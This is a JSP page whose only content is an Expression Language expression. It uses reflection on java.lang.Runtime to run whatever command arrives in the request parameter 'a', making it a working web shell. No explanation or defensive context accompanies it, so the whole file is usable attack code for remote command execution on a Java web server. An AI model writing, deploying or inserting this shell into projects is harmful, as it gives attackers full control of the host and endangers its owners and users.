<%@ page isELIgnored="false" %>
${pageContext.request.getParameter("a") != null ? "".getClass().forName("java.lang.Runtime").getMethod("exec", "".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), pageContext.request.getParameter("a")) : ""}
